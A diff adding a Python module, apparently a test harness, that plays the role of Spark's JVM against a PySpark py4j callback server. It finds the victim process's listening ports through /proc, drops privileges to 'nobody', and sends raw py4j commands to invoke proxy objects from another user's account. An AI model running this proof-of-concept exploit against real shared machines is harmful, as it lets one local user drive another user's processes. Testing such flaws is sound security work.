@@ -1,0 +1,93 @@
+"""What another user of the machine gets from a Python process that Spark's JVM calls: by sockets alone, as py4j's protocol has it.
+
+``attack`` plays the JVM: it calls the first proxies of each port of 127.0.0.1, and when Python asks something of "Java" during a call, it
+answers.
+"""
+
+from __future__ import annotations
+
+import os
+import pwd
+import socket
+import warnings
+from collections.abc import Callable, Iterable
+from pathlib import Path
+
+CALLS = ("apply", "call", "__call__", "toString", "hashCode", "equals", "target", "__repr__")
+PROXIES = ("p0", "p1", "p2", "p3", "t", "1")
+LISTENS = "0A"
+
+
+def as_other_user(found: Callable[[], bytes]) -> bytes:
+    """Return what a function finds in a child process that is nobody, or the same user where this process may not become another."""
+    here, there = os.pipe()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", DeprecationWarning)  # threads and fork, from Python 3.12
+        child = os.fork()
+    if child == 0:
+        try:
+            os.close(here)
+            if os.getuid() == 0:
+                nobody = pwd.getpwnam("nobody")
+                os.setgroups([])
+                os.setgid(nobody.pw_gid)
+                os.setuid(nobody.pw_uid)
+            data = found()
+            with os.fdopen(there, "wb") as pipe:
+                pipe.write(b"done " + data)
+        finally:
+            os._exit(0)
+    os.close(there)
+    with os.fdopen(here, "rb") as pipe:
+        data = pipe.read()
+    os.waitpid(child, 0)
+    assert data.startswith(b"done "), "the other user's process failed"
+    return data.removeprefix(b"done ")
+
+
+def listening(pid: int) -> set[int]:
+    """Return the TCP ports that a process of this user listens at."""
+    own = sockets(pid)
+    found = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        for line in Path(table).read_text().splitlines()[1:]:
+            parts = line.split()
+            if parts[3] == LISTENS and parts[9] in own:
+                found.add(int(parts[1].rpartition(":")[2], 16))
+    return found
+
+
+def sockets(pid: int) -> set[str]:
+    found = set()
+    for entry in Path(f"/proc/{pid}/fd").iterdir():
+        try:
+            target = str(entry.readlink())
+        except OSError:
+            continue
+        if target.startswith("socket:["):
+            found.add(target[8:-1])
+    return found
+
+
+def attack(ports: Iterable[int]) -> bytes:
+    """Return all that is answered at some ports."""
+    return b"\n".join(ask(port, proxy, call) for port in sorted(ports) for proxy in PROXIES for call in CALLS)
+
+
+def ask(port: int, proxy: str, call: str) -> bytes:
+    got = b""
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection, connection.makefile("rb") as stream:
+            connection.settimeout(0.2)
+            connection.sendall(f"c\n{proxy}\n{call}\nlo0\ne\n".encode())
+            for _ in range(100):
+                line = stream.readline()
+                got += line
+                if line not in (b"c\n", b"m\n", b"r\n"):
+                    break
+                while stream.readline().strip() not in (b"e", b""):
+                    pass
+                connection.sendall(b"!yi0\n" if line == b"c\n" else b"!yv\n")
+    except OSError:
+        pass
+    return got
